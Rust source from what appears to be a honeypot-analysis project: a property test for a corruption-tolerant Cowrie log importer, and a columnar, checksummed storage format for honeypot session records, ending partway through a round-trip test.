//! Property test: the lossy Cowrie importer never panics on corrupted
//! logs, and every session whose log lines survived the corruption intact
//! is recovered field-identical.
//!
//! Corruption models the damage a long-running deployment accumulates:
//! crash-truncated files, torn single-byte writes, dropped, duplicated and
//! reordered lines, and foreign garbage interleaved by log rotation.

use honeylab::honeypot::{from_cowrie_log_lossy, to_cowrie_log};
use honeylab::prelude::*;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::OnceLock;

struct Base {
    /// `(original record, its per-session log lines in order)`.
    sessions: Vec<(SessionRecord, Vec<String>)>,
    log: String,
}

/// A 200-session log exported once; every proptest case corrupts a copy.
fn base() -> &'static Base {
    static B: OnceLock<Base> = OnceLock::new();
    B.get_or_init(|| {
        let ds = botnet::generate_dataset(&DriverConfig::test_scale(31));
        let subset: Vec<SessionRecord> = ds.sessions.iter().take(200).cloned().collect();
        let log = to_cowrie_log(&subset);
        let sessions = subset
            .into_iter()
            .map(|rec| {
                let tag = format!("\"session\":\"{:012x}\"", rec.session_id);
                let lines: Vec<String> = log
                    .lines()
                    .filter(|l| l.contains(&tag))
                    .map(str::to_string)
                    .collect();
                assert!(!lines.is_empty(), "every session appears in its own log");
                (rec, lines)
            })
            .collect();
        Base { sessions, log }
    })
}

/// Applies `n_ops` seeded corruption operations to the log.
fn corrupt(log: &str, seed: u64, n_ops: usize) -> String {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut lines: Vec<String> = log.lines().map(str::to_string).collect();
    for _ in 0..n_ops {
        if lines.is_empty() {
            break;
        }
        match rng.random_range(0..6u32) {
            // Crash truncation: the final line is cut mid-write.
            0 => {
                let last = lines.last_mut().expect("non-empty");
                let keep = rng.random_range(0..last.len().max(1));
                last.truncate(keep);
            }
            // Torn write: one byte overwritten.
            1 => {
                let li = rng.random_range(0..lines.len());
                let mut bytes = lines[li].as_bytes().to_vec();
                if !bytes.is_empty() {
                    let i = rng.random_range(0..bytes.len());
                    bytes[i] = b'#';
                    lines[li] = String::from_utf8_lossy(&bytes).into_owned();
                }
            }
            // Lost line.
            2 => {
                let li = rng.random_range(0..lines.len());
                lines.remove(li);
            }
            // Duplicated line (e.g. a flush retried after a partial ack).
            3 => {
                let li = rng.random_range(0..lines.len());
                let dup = lines[li].clone();
                lines.insert(li, dup);
            }
            // Reordered lines.
            4 => {
                let a = rng.random_range(0..lines.len());
                let b = rng.random_range(0..lines.len());
                lines.swap(a, b);
            }
            // Interleaved garbage.
            _ => {
                let li = rng.random_range(0..=lines.len());
                lines.insert(li, "}{ not json at all \u{1}".to_string());
            }
        }
    }
    lines.join("\n") + "\n"
}

proptest! {
    #[test]
    fn lossy_import_never_panics_and_recovers_intact_sessions(
        seed in any::<u64>(),
        n_ops in 1usize..12,
    ) {
        let base = base();
        let corrupted = corrupt(&base.log, seed, n_ops);
        // Must never panic, whatever the damage.
        let import = from_cowrie_log_lossy(&corrupted);

        // A session is *intact* when exactly its original lines, in their
        // original order, still tag it in the corrupted log. Intact
        // sessions must come back field-identical (ids are re-assigned).
        for (orig, orig_lines) in &base.sessions {
            let tag = format!("\"session\":\"{:012x}\"", orig.session_id);
            let now: Vec<&str> =
                corrupted.lines().filter(|l| l.contains(&tag)).collect();
            if now != orig_lines.iter().map(String::as_str).collect::<Vec<_>>() {
                continue;
            }
            let found = import.sessions.iter().find(|s| {
                s.client_ip == orig.client_ip
                    && s.client_port == orig.client_port
                    && s.start == orig.start
            });
            let rec = found.unwrap_or_else(|| {
                panic!("intact session {:012x} not recovered", orig.session_id)
            });
            // Same guarantees the strict round-trip test makes: identity,
            // credentials and command content (URIs are re-extracted from
            // command text on import, not carried verbatim).
            prop_assert_eq!(&rec.logins, &orig.logins);
            prop_assert_eq!(&rec.commands, &orig.commands);
            prop_assert_eq!(rec.protocol, orig.protocol);
        }

        // Line accounting stays coherent.
        prop_assert!(import.errors.len() <= import.lines_total);
        for e in &import.errors {
            prop_assert!(e.line >= 1);
        }
    }
}
