//! One segment: a bounded, self-describing, columnar batch of sessions.
//!
//! See the crate docs for the file layout. The writer buffers *columns*,
//! not records: pushing a [`SessionRecord`] immediately scatters its
//! fields into per-column buffers and interns its strings, so the only
//! per-segment memory is the (bounded) column data plus the dictionary.

use crate::{SessionDbError, FOOTER_MAGIC, MAGIC, VERSION};
use honeypot::{
    CommandRecord, FileEvent, FileOp, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
};
use hutil::{crc32, DateTime};
use netsim::Ipv4Addr;
use std::collections::HashMap;
use std::io::{Read, Seek, SeekFrom};
use std::path::PathBuf;

/// Byte length of the fixed footer.
pub(crate) const FOOTER_LEN: u64 = 32;
/// Byte length of the fixed header.
pub(crate) const HEADER_LEN: u64 = 8;

const BLOCK_DICT: u8 = 1;
const BLOCK_ROWS: u8 = 2;

// --- little-endian encode/decode helpers --------------------------------

pub(crate) fn put_u16(out: &mut Vec<u8>, v: u16) {
    out.extend_from_slice(&v.to_le_bytes());
}

pub(crate) fn put_u32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

pub(crate) fn put_u64(out: &mut Vec<u8>, v: u64) {
    out.extend_from_slice(&v.to_le_bytes());
}

pub(crate) fn put_i64(out: &mut Vec<u8>, v: i64) {
    out.extend_from_slice(&v.to_le_bytes());
}

/// Bounds-checked sequential reader over a decoded payload. Every
/// overrun is a corruption diagnosis, not a panic.
pub(crate) struct Cursor<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> Cursor<'a> {
    pub(crate) fn new(buf: &'a [u8]) -> Self {
        Self { buf, pos: 0 }
    }

    pub(crate) fn take(&mut self, n: usize) -> Result<&'a [u8], String> {
        let end = self.pos.checked_add(n).ok_or("length overflow")?;
        if end > self.buf.len() {
            return Err(format!(
                "payload truncated: need {n} bytes at offset {}, have {}",
                self.pos,
                self.buf.len() - self.pos
            ));
        }
        let s = &self.buf[self.pos..end];
        self.pos = end;
        Ok(s)
    }

    pub(crate) fn u16(&mut self) -> Result<u16, String> {
        Ok(u16::from_le_bytes(
            self.take(2)?.try_into().expect("2 bytes"),
        ))
    }

    pub(crate) fn u32(&mut self) -> Result<u32, String> {
        Ok(u32::from_le_bytes(
            self.take(4)?.try_into().expect("4 bytes"),
        ))
    }

    pub(crate) fn u64(&mut self) -> Result<u64, String> {
        Ok(u64::from_le_bytes(
            self.take(8)?.try_into().expect("8 bytes"),
        ))
    }

    pub(crate) fn i64(&mut self) -> Result<i64, String> {
        Ok(i64::from_le_bytes(
            self.take(8)?.try_into().expect("8 bytes"),
        ))
    }

    pub(crate) fn done(&self) -> bool {
        self.pos == self.buf.len()
    }
}

// --- string interning ---------------------------------------------------

/// Write-side dictionary: every distinct string costs one entry.
#[derive(Default)]
struct Interner {
    ids: HashMap<String, u32>,
    strings: Vec<String>,
}

impl Interner {
    fn intern(&mut self, s: &str) -> u32 {
        if let Some(&id) = self.ids.get(s) {
            return id;
        }
        let id = self.strings.len() as u32;
        self.ids.insert(s.to_string(), id);
        self.strings.push(s.to_string());
        id
    }

    /// `None` → 0, `Some(s)` → interned id + 1.
    fn intern_opt(&mut self, s: Option<&str>) -> u32 {
        match s {
            None => 0,
            Some(s) => self.intern(s) + 1,
        }
    }

    fn encode(&self) -> Vec<u8> {
        let mut out = Vec::new();
        put_u32(&mut out, self.strings.len() as u32);
        for s in &self.strings {
            put_u32(&mut out, s.len() as u32);
            out.extend_from_slice(s.as_bytes());
        }
        out
    }
}

/// Read-side dictionary.
struct Dictionary {
    strings: Vec<String>,
}

impl Dictionary {
    fn decode(payload: &[u8]) -> Result<Self, String> {
        let mut c = Cursor::new(payload);
        let n = c.u32()? as usize;
        let mut strings = Vec::with_capacity(n.min(payload.len() / 4));
        for i in 0..n {
            let len = c.u32()? as usize;
            let bytes = c.take(len)?;
            let s = std::str::from_utf8(bytes)
                .map_err(|e| format!("dictionary entry {i} is not UTF-8: {e}"))?;
            strings.push(s.to_string());
        }
        if !c.done() {
            return Err("trailing bytes after dictionary".to_string());
        }
        Ok(Self { strings })
    }

    fn get(&self, id: u32) -> Result<&str, String> {
        self.strings
            .get(id as usize)
            .map(String::as_str)
            .ok_or_else(|| format!("dictionary id {id} out of range ({})", self.strings.len()))
    }

    /// Inverse of [`Interner::intern_opt`].
    fn get_opt(&self, id: u32) -> Result<Option<&str>, String> {
        if id == 0 {
            Ok(None)
        } else {
            self.get(id - 1).map(Some)
        }
    }
}

// --- column buffers ------------------------------------------------------

/// File-op tags in the `file_events` column stream (shared with the WAL
/// record codec, which must agree on the wire meaning of each tag).
pub(crate) const OP_CREATED: u8 = 0;
pub(crate) const OP_MODIFIED: u8 = 1;
pub(crate) const OP_DELETED: u8 = 2;
pub(crate) const OP_EXEC_HASH: u8 = 3;
pub(crate) const OP_EXEC_MISSING: u8 = 4;
pub(crate) const OP_DOWNLOAD_FAILED: u8 = 5;

#[derive(Default)]
struct Columns {
    session_id: Vec<u64>,
    honeypot_id: Vec<u16>,
    honeypot_ip: Vec<u32>,
    client_ip: Vec<u32>,
    client_port: Vec<u16>,
    protocol: Vec<u8>,
    start: Vec<i64>,
    end: Vec<i64>,
    end_reason: Vec<u8>,
    client_version: Vec<u32>,
    login_len: Vec<u32>,
    login_user: Vec<u32>,
    login_pass: Vec<u32>,
    login_ok: Vec<u8>,
    cmd_len: Vec<u32>,
    cmd_input: Vec<u32>,
    cmd_known: Vec<u8>,
    uri_len: Vec<u32>,
    uri: Vec<u32>,
    fe_len: Vec<u32>,
    fe_path: Vec<u32>,
    fe_tag: Vec<u8>,
    fe_hash: Vec<u32>,
    fe_src: Vec<u32>,
}

impl Columns {
    fn push(&mut self, rec: &SessionRecord, dict: &mut Interner) {
        self.session_id.push(rec.session_id);
        self.honeypot_id.push(rec.honeypot_id);
        self.honeypot_ip.push(rec.honeypot_ip.0);
        self.client_ip.push(rec.client_ip.0);
        self.client_port.push(rec.client_port);
        self.protocol.push(match rec.protocol {
            Protocol::Ssh => 0,
            Protocol::Telnet => 1,
        });
        self.start.push(rec.start.unix());
        self.end.push(rec.end.unix());
        self.end_reason.push(match rec.end_reason {
            SessionEndReason::ClientClose => 0,
            SessionEndReason::Timeout => 1,
        });
        self.client_version
            .push(dict.intern_opt(rec.client_version.as_deref()));

        self.login_len.push(rec.logins.len() as u32);
        for l in &rec.logins {
            self.login_user.push(dict.intern(&l.username));
            self.login_pass.push(dict.intern(&l.password));
            self.login_ok.push(u8::from(l.success));
        }
        self.cmd_len.push(rec.commands.len() as u32);
        for c in &rec.commands {
            self.cmd_input.push(dict.intern(&c.input));
            self.cmd_known.push(u8::from(c.known));
        }
        self.uri_len.push(rec.uris.len() as u32);
        for u in &rec.uris {
            self.uri.push(dict.intern(u));
        }
        self.fe_len.push(rec.file_events.len() as u32);
        for e in &rec.file_events {
            self.fe_path.push(dict.intern(&e.path));
            let tag = match &e.op {
                FileOp::Created { sha256 } => {
                    self.fe_hash.push(dict.intern(sha256));
                    OP_CREATED
                }
                FileOp::Modified { sha256 } => {
                    self.fe_hash.push(dict.intern(sha256));
                    OP_MODIFIED
                }
                FileOp::Deleted => OP_DELETED,
                FileOp::ExecAttempt { sha256: Some(h) } => {
                    self.fe_hash.push(dict.intern(h));
                    OP_EXEC_HASH
                }
                FileOp::ExecAttempt { sha256: None } => OP_EXEC_MISSING,
                FileOp::DownloadFailed => OP_DOWNLOAD_FAILED,
            };
            self.fe_tag.push(tag);
            self.fe_src.push(dict.intern_opt(e.source_uri.as_deref()));
        }
    }

    fn encode(&self) -> Vec<u8> {
        let mut out = Vec::new();
        let n = self.session_id.len() as u32;
        put_u32(&mut out, n);
        for &v in &self.session_id {
            put_u64(&mut out, v);
        }
        for &v in &self.honeypot_id {
            put_u16(&mut out, v);
        }
        for &v in &self.honeypot_ip {
            put_u32(&mut out, v);
        }
        for &v in &self.client_ip {
            put_u32(&mut out, v);
        }
        for &v in &self.client_port {
            put_u16(&mut out, v);
        }
        out.extend_from_slice(&self.protocol);
        for &v in &self.start {
            put_i64(&mut out, v);
        }
        for &v in &self.end {
            put_i64(&mut out, v);
        }
        out.extend_from_slice(&self.end_reason);
        for &v in &self.client_version {
            put_u32(&mut out, v);
        }

        for &v in &self.login_len {
            put_u32(&mut out, v);
        }
        put_u32(&mut out, self.login_user.len() as u32);
        for &v in &self.login_user {
            put_u32(&mut out, v);
        }
        for &v in &self.login_pass {
            put_u32(&mut out, v);
        }
        out.extend_from_slice(&self.login_ok);

        for &v in &self.cmd_len {
            put_u32(&mut out, v);
        }
        put_u32(&mut out, self.cmd_input.len() as u32);
        for &v in &self.cmd_input {
            put_u32(&mut out, v);
        }
        out.extend_from_slice(&self.cmd_known);

        for &v in &self.uri_len {
            put_u32(&mut out, v);
        }
        put_u32(&mut out, self.uri.len() as u32);
        for &v in &self.uri {
            put_u32(&mut out, v);
        }

        for &v in &self.fe_len {
            put_u32(&mut out, v);
        }
        put_u32(&mut out, self.fe_tag.len() as u32);
        for &v in &self.fe_path {
            put_u32(&mut out, v);
        }
        out.extend_from_slice(&self.fe_tag);
        put_u32(&mut out, self.fe_hash.len() as u32);
        for &v in &self.fe_hash {
            put_u32(&mut out, v);
        }
        for &v in &self.fe_src {
            put_u32(&mut out, v);
        }
        out
    }
}

/// Decodes a rows payload back into records, resolving dictionary ids.
fn decode_rows(payload: &[u8], dict: &Dictionary) -> Result<Vec<SessionRecord>, String> {
    let mut c = Cursor::new(payload);
    let n = c.u32()? as usize;
    let mut session_id = Vec::with_capacity(n);
    for _ in 0..n {
        session_id.push(c.u64()?);
    }
    let mut honeypot_id = Vec::with_capacity(n);
    for _ in 0..n {
        honeypot_id.push(c.u16()?);
    }
    let mut honeypot_ip = Vec::with_capacity(n);
    for _ in 0..n {
        honeypot_ip.push(c.u32()?);
    }
    let mut client_ip = Vec::with_capacity(n);
    for _ in 0..n {
        client_ip.push(c.u32()?);
    }
    let mut client_port = Vec::with_capacity(n);
    for _ in 0..n {
        client_port.push(c.u16()?);
    }
    let protocol = c.take(n)?.to_vec();
    let mut start = Vec::with_capacity(n);
    for _ in 0..n {
        start.push(c.i64()?);
    }
    let mut end = Vec::with_capacity(n);
    for _ in 0..n {
        end.push(c.i64()?);
    }
    let end_reason = c.take(n)?.to_vec();
    let mut client_version = Vec::with_capacity(n);
    for _ in 0..n {
        client_version.push(c.u32()?);
    }

    let mut login_len = Vec::with_capacity(n);
    for _ in 0..n {
        login_len.push(c.u32()? as usize);
    }
    let login_total = c.u32()? as usize;
    if login_len.iter().sum::<usize>() != login_total {
        return Err("login column lengths disagree with total".to_string());
    }
    let mut login_user = Vec::with_capacity(login_total);
    for _ in 0..login_total {
        login_user.push(c.u32()?);
    }
    let mut login_pass = Vec::with_capacity(login_total);
    for _ in 0..login_total {
        login_pass.push(c.u32()?);
    }
    let login_ok = c.take(login_total)?.to_vec();

    let mut cmd_len = Vec::with_capacity(n);
    for _ in 0..n {
        cmd_len.push(c.u32()? as usize);
    }
    let cmd_total = c.u32()? as usize;
    if cmd_len.iter().sum::<usize>() != cmd_total {
        return Err("command column lengths disagree with total".to_string());
    }
    let mut cmd_input = Vec::with_capacity(cmd_total);
    for _ in 0..cmd_total {
        cmd_input.push(c.u32()?);
    }
    let cmd_known = c.take(cmd_total)?.to_vec();

    let mut uri_len = Vec::with_capacity(n);
    for _ in 0..n {
        uri_len.push(c.u32()? as usize);
    }
    let uri_total = c.u32()? as usize;
    if uri_len.iter().sum::<usize>() != uri_total {
        return Err("uri column lengths disagree with total".to_string());
    }
    let mut uri = Vec::with_capacity(uri_total);
    for _ in 0..uri_total {
        uri.push(c.u32()?);
    }

    let mut fe_len = Vec::with_capacity(n);
    for _ in 0..n {
        fe_len.push(c.u32()? as usize);
    }
    let fe_total = c.u32()? as usize;
    if fe_len.iter().sum::<usize>() != fe_total {
        return Err("file-event column lengths disagree with total".to_string());
    }
    let mut fe_path = Vec::with_capacity(fe_total);
    for _ in 0..fe_total {
        fe_path.push(c.u32()?);
    }
    let fe_tag = c.take(fe_total)?.to_vec();
    let hash_total = c.u32()? as usize;
    let expect_hashes = fe_tag
        .iter()
        .filter(|&&t| matches!(t, OP_CREATED | OP_MODIFIED | OP_EXEC_HASH))
        .count();
    if hash_total != expect_hashes {
        return Err("file-event hash count disagrees with op tags".to_string());
    }
    let mut fe_hash = Vec::with_capacity(hash_total);
    for _ in 0..hash_total {
        fe_hash.push(c.u32()?);
    }
    let mut fe_src = Vec::with_capacity(fe_total);
    for _ in 0..fe_total {
        fe_src.push(c.u32()?);
    }
    if !c.done() {
        return Err("trailing bytes after row columns".to_string());
    }

    // Reassemble.
    let mut out = Vec::with_capacity(n);
    let (mut li, mut ci, mut ui, mut fi, mut hi) = (0usize, 0usize, 0usize, 0usize, 0usize);
    for r in 0..n {
        let logins = (0..login_len[r])
            .map(|_| {
                let l = LoginAttempt {
                    username: dict.get(login_user[li])?.to_string(),
                    password: dict.get(login_pass[li])?.to_string(),
                    success: login_ok[li] != 0,
                };
                li += 1;
                Ok(l)
            })
            .collect::<Result<Vec<_>, String>>()?;
        let commands = (0..cmd_len[r])
            .map(|_| {
                let cr = CommandRecord {
                    input: dict.get(cmd_input[ci])?.to_string(),
                    known: cmd_known[ci] != 0,
                };
                ci += 1;
                Ok(cr)
            })
            .collect::<Result<Vec<_>, String>>()?;
        let uris = (0..uri_len[r])
            .map(|_| {
                let s = dict.get(uri[ui])?.to_string();
                ui += 1;
                Ok(s)
            })
            .collect::<Result<Vec<_>, String>>()?;
        let file_events = (0..fe_len[r])
            .map(|_| {
                let mut hash = || {
                    let h = dict.get(fe_hash[hi])?.to_string();
                    hi += 1;
                    Ok::<String, String>(h)
                };
                let op = match fe_tag[fi] {
                    OP_CREATED => FileOp::Created { sha256: hash()? },
                    OP_MODIFIED => FileOp::Modified { sha256: hash()? },
                    OP_DELETED => FileOp::Deleted,
                    OP_EXEC_HASH => FileOp::ExecAttempt {
                        sha256: Some(hash()?),
                    },
                    OP_EXEC_MISSING => FileOp::ExecAttempt { sha256: None },
                    OP_DOWNLOAD_FAILED => FileOp::DownloadFailed,
                    t => return Err(format!("unknown file-op tag {t}")),
                };
                let ev = FileEvent {
                    path: dict.get(fe_path[fi])?.to_string(),
                    op,
                    source_uri: dict.get_opt(fe_src[fi])?.map(str::to_string),
                };
                fi += 1;
                Ok(ev)
            })
            .collect::<Result<Vec<_>, String>>()?;

        out.push(SessionRecord {
            session_id: session_id[r],
            honeypot_id: honeypot_id[r],
            honeypot_ip: Ipv4Addr(honeypot_ip[r]),
            client_ip: Ipv4Addr(client_ip[r]),
            client_port: client_port[r],
            protocol: match protocol[r] {
                0 => Protocol::Ssh,
                1 => Protocol::Telnet,
                t => return Err(format!("unknown protocol tag {t}")),
            },
            start: DateTime::from_unix(start[r]),
            end: DateTime::from_unix(end[r]),
            end_reason: match end_reason[r] {
                0 => SessionEndReason::ClientClose,
                1 => SessionEndReason::Timeout,
                t => return Err(format!("unknown end-reason tag {t}")),
            },
            client_version: dict.get_opt(client_version[r])?.map(str::to_string),
            logins,
            commands,
            uris,
            file_events,
        });
    }
    Ok(out)
}

// --- segment metadata ----------------------------------------------------

/// What a segment's header + footer reveal without reading its blocks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SegmentMeta {
    /// Segment file.
    pub path: PathBuf,
    /// Sessions in the segment.
    pub rows: u64,
    /// Zone map: earliest session start (`None` for an empty segment).
    pub min_start: Option<DateTime>,
    /// Zone map: latest session start.
    pub max_start: Option<DateTime>,
}

impl SegmentMeta {
    /// Whether the segment may contain sessions starting inside the
    /// half-open window `[min, max)` — a segment whose earliest start is
    /// exactly `max` holds nothing the window can match. An unknown range
    /// is conservatively kept.
    pub fn overlaps(&self, min: DateTime, max: DateTime) -> bool {
        match (self.min_start, self.max_start) {
            (Some(lo), Some(hi)) => lo < max && hi >= min,
            _ => self.rows > 0,
        }
    }
}

// --- writer --------------------------------------------------------------

/// Serializes one segment. Records are pushed column-wise into memory and
/// the file is written (atomically, via a `.tmp` rename) on
/// [`SegmentWriter::finish`].
pub struct SegmentWriter {
    path: PathBuf,
    dict: Interner,
    cols: Columns,
    rows: u64,
    min_start: Option<i64>,
    max_start: Option<i64>,
}

impl SegmentWriter {
    /// Starts a segment that will live at `path` once finished.
    pub fn create(path: impl Into<PathBuf>) -> Self {
        Self {
            path: path.into(),
            dict: Interner::default(),
            cols: Columns::default(),
            rows: 0,
            min_start: None,
            max_start: None,
        }
    }

    /// Buffers one record.
    pub fn push(&mut self, rec: &SessionRecord) {
        let s = rec.start.unix();
        self.min_start = Some(self.min_start.map_or(s, |m| m.min(s)));
        self.max_start = Some(self.max_start.map_or(s, |m| m.max(s)));
        self.cols.push(rec, &mut self.dict);
        self.rows += 1;
    }

    /// Rows buffered so far.
    pub fn rows(&self) -> u64 {
        self.rows
    }

    /// Serializes header, blocks and footer, then renames the segment
    /// into place. The seal is durable: the `.tmp` file is fsynced before
    /// the rename and the parent directory is fsynced after it, so a
    /// renamed segment survives a crash at any point (a crash mid-seal
    /// leaves at worst an orphaned `.tmp`, which recovery removes).
    pub fn finish(self) -> Result<SegmentMeta, SessionDbError> {
        let tmp = self.path.with_extension("hsdb.tmp");
        let mut buf = Vec::new();
        buf.extend_from_slice(&MAGIC);
        put_u16(&mut buf, VERSION);
        put_u16(&mut buf, 0); // flags

        for (tag, payload) in [
            (BLOCK_DICT, self.dict.encode()),
            (BLOCK_ROWS, self.cols.encode()),
        ] {
            buf.push(tag);
            put_u32(&mut buf, payload.len() as u32);
            let crc = crc32(&payload);
            buf.extend_from_slice(&payload);
            put_u32(&mut buf, crc);
        }

        let mut footer = Vec::with_capacity(FOOTER_LEN as usize);
        put_u64(&mut footer, self.rows);
        put_i64(&mut footer, self.min_start.unwrap_or(0));
        put_i64(&mut footer, self.max_start.unwrap_or(0));
        let crc = crc32(&footer);
        put_u32(&mut footer, crc);
        footer.extend_from_slice(&FOOTER_MAGIC);
        buf.extend_from_slice(&footer);

        {
            let mut f = std::fs::File::create(&tmp).map_err(|e| SessionDbError::io(&tmp, e))?;
            std::io::Write::write_all(&mut f, &buf).map_err(|e| SessionDbError::io(&tmp, e))?;
            f.sync_all().map_err(|e| SessionDbError::io(&tmp, e))?;
        }
        std::fs::rename(&tmp, &self.path).map_err(|e| SessionDbError::io(&self.path, e))?;
        if let Some(dir) = self.path.parent() {
            sync_dir(dir)?;
        }
        Ok(SegmentMeta {
            path: self.path,
            rows: self.rows,
            min_start: self.min_start.map(DateTime::from_unix),
            max_start: self.max_start.map(DateTime::from_unix),
        })
    }
}

/// Fsyncs a directory so a just-renamed or just-removed entry inside it
/// survives a power loss. On platforms where directories cannot be
/// opened (or fsynced), the error is still surfaced — every platform we
/// target supports it.
pub(crate) fn sync_dir(dir: &std::path::Path) -> Result<(), SessionDbError> {
    let d = std::fs::File::open(dir).map_err(|e| SessionDbError::io(dir, e))?;
    d.sync_all().map_err(|e| SessionDbError::io(dir, e))
}

// --- reader --------------------------------------------------------------

/// Validates and decodes one segment file.
///
/// [`SegmentReader::open`] touches only the 8-byte header and 32-byte
/// footer (two seeks), so opening a store with thousands of segments is
/// cheap; block payloads and their CRCs are verified by
/// [`SegmentReader::read_all`].
#[derive(Debug, Clone)]
pub struct SegmentReader {
    meta: SegmentMeta,
}

impl SegmentReader {
    /// Opens `path`, validating magic, version and footer.
    pub fn open(path: impl Into<PathBuf>) -> Result<Self, SessionDbError> {
        let path = path.into();
        let mut f = std::fs::File::open(&path).map_err(|e| SessionDbError::io(&path, e))?;
        let len = f
            .metadata()
            .map_err(|e| SessionDbError::io(&path, e))?
            .len();
        if len < HEADER_LEN {
            return Err(SessionDbError::BadMagic {
                path: path.display().to_string(),
            });
        }
        let mut header = [0u8; HEADER_LEN as usize];
        f.read_exact(&mut header)
            .map_err(|e| SessionDbError::io(&path, e))?;
        if header[0..4] != MAGIC {
            return Err(SessionDbError::BadMagic {
                path: path.display().to_string(),
            });
        }
        let version = u16::from_le_bytes([header[4], header[5]]);
        if version != VERSION {
            return Err(SessionDbError::BadVersion {
                path: path.display().to_string(),
                found: version,
            });
        }
        if len < HEADER_LEN + FOOTER_LEN {
            return Err(SessionDbError::corrupt(
                &path,
                "file too short for a footer",
            ));
        }
        f.seek(SeekFrom::End(-(FOOTER_LEN as i64)))
            .map_err(|e| SessionDbError::io(&path, e))?;
        let mut footer = [0u8; FOOTER_LEN as usize];
        f.read_exact(&mut footer)
            .map_err(|e| SessionDbError::io(&path, e))?;
        if footer[28..32] != FOOTER_MAGIC {
            return Err(SessionDbError::corrupt(
                &path,
                "footer magic missing (truncated or torn write)",
            ));
        }
        let fields = &footer[0..24];
        let stored_crc = u32::from_le_bytes(footer[24..28].try_into().expect("4 bytes"));
        if crc32(fields) != stored_crc {
            return Err(SessionDbError::corrupt(&path, "footer checksum mismatch"));
        }
        let rows = u64::from_le_bytes(footer[0..8].try_into().expect("8 bytes"));
        let min_start = i64::from_le_bytes(footer[8..16].try_into().expect("8 bytes"));
        let max_start = i64::from_le_bytes(footer[16..24].try_into().expect("8 bytes"));
        Ok(Self {
            meta: SegmentMeta {
                path,
                rows,
                min_start: (rows > 0).then(|| DateTime::from_unix(min_start)),
                max_start: (rows > 0).then(|| DateTime::from_unix(max_start)),
            },
        })
    }

    /// Header/footer metadata.
    pub fn meta(&self) -> &SegmentMeta {
        &self.meta
    }

    /// Reads and CRC-verifies every block, decoding the full batch.
    pub fn read_all(&self) -> Result<Vec<SessionRecord>, SessionDbError> {
        let path = &self.meta.path;
        let bytes = std::fs::read(path).map_err(|e| SessionDbError::io(path, e))?;
        let len = bytes.len() as u64;
        if len < HEADER_LEN + FOOTER_LEN {
            return Err(SessionDbError::corrupt(path, "file too short for a footer"));
        }
        let blocks_end = (len - FOOTER_LEN) as usize;
        let mut pos = HEADER_LEN as usize;
        let mut dict: Option<Dictionary> = None;
        let mut rows: Option<Vec<SessionRecord>> = None;
        while pos < blocks_end {
            if pos + 5 > blocks_end {
                return Err(SessionDbError::corrupt(path, "truncated block header"));
            }
            let tag = bytes[pos];
            let plen =
                u32::from_le_bytes(bytes[pos + 1..pos + 5].try_into().expect("4 bytes")) as usize;
            let body_start = pos + 5;
            let body_end = body_start
                .checked_add(plen)
                .ok_or_else(|| SessionDbError::corrupt(path, "block length overflow"))?;
            if body_end + 4 > blocks_end {
                return Err(SessionDbError::corrupt(path, "block overruns footer"));
            }
            let payload = &bytes[body_start..body_end];
            let stored_crc =
                u32::from_le_bytes(bytes[body_end..body_end + 4].try_into().expect("4 bytes"));
            if crc32(payload) != stored_crc {
                return Err(SessionDbError::corrupt(
                    path,
                    format!("block tag {tag} checksum mismatch"),
                ));
            }
            match tag {
                BLOCK_DICT => {
                    dict = Some(
                        Dictionary::decode(payload)
                            .map_err(|d| SessionDbError::corrupt(path, d))?,
                    );
                }
                BLOCK_ROWS => {
                    let d = dict.as_ref().ok_or_else(|| {
                        SessionDbError::corrupt(path, "rows block before dictionary")
                    })?;
                    rows = Some(
                        decode_rows(payload, d).map_err(|d| SessionDbError::corrupt(path, d))?,
                    );
                }
                // Unknown block tags are skipped (forward compatibility).
                _ => {}
            }
            pos = body_end + 4;
        }
        let rows = rows.unwrap_or_default();
        if rows.len() as u64 != self.meta.rows {
            return Err(SessionDbError::corrupt(
                path,
                format!(
                    "footer says {} rows, blocks hold {}",
                    self.meta.rows,
                    rows.len()
                ),
            ));
        }
        Ok(rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hutil::Date;

    fn rec(i: u64) -> SessionRecord {
        SessionRecord {
            session_id: i,
            honeypot_id: (i % 7) as u16,
            honeypot_ip: Ipv4Addr(0x0a00_0001 + i as u32),
            client_ip: Ipv4Addr(0xc0a8_0001 + i as u32),
            client_port: 1024 + (i % 60000) as u16,
            protocol: if i.is_multiple_of(5) {
                Protocol::Telnet
            } else {
                Protocol::Ssh
            },
            start: Date::new(2022, 3, 1)
                .at_midnight()
                .plus_secs(i as i64 * 3600),
            end: Date::new(2022, 3, 1)
                .at_midnight()
                .plus_secs(i as i64 * 3600 + 40),
            end_reason: if i.is_multiple_of(2) {
                SessionEndReason::ClientClose
            } else {
                SessionEndReason::Timeout
            },
            client_version: (!i.is_multiple_of(3)).then(|| format!("SSH-2.0-Go-{}", i % 4)),
            logins: vec![LoginAttempt {
                username: "root".into(),
                password: format!("pw{}", i % 10),
                success: i.is_multiple_of(2),
            }],
            commands: (0..(i % 4))
                .map(|k| CommandRecord {
                    input: format!("cmd {k}"),
                    known: k.is_multiple_of(2),
                })
                .collect(),
            uris: if i.is_multiple_of(6) {
                vec![format!("http://1.2.3.{}/x.sh", i % 250)]
            } else {
                vec![]
            },
            file_events: if i.is_multiple_of(6) {
                vec![
                    FileEvent {
                        path: "/tmp/x.sh".into(),
                        op: FileOp::Created {
                            sha256: "ab".repeat(32),
                        },
                        source_uri: Some(format!("http://1.2.3.{}/x.sh", i % 250)),
                    },
                    FileEvent {
                        path: "/tmp/x.sh".into(),
                        op: FileOp::ExecAttempt {
                            sha256: Some("ab".repeat(32)),
                        },
                        source_uri: None,
                    },
                    FileEvent {
                        path: "/tmp/gone".into(),
                        op: FileOp::ExecAttempt { sha256: None },
                        source_uri: None,
                    },
                ]
            } else {
                vec![]
            },
        }
    }

    fn tmpdir(name: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("sessiondb-seg-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    #[test]
    fn roundtrip_preserves_every_field() {
        let dir = tmpdir("roundtrip");
        let path = dir.join("seg-000000.hsdb");
        let mut w = SegmentWriter::create(&path);
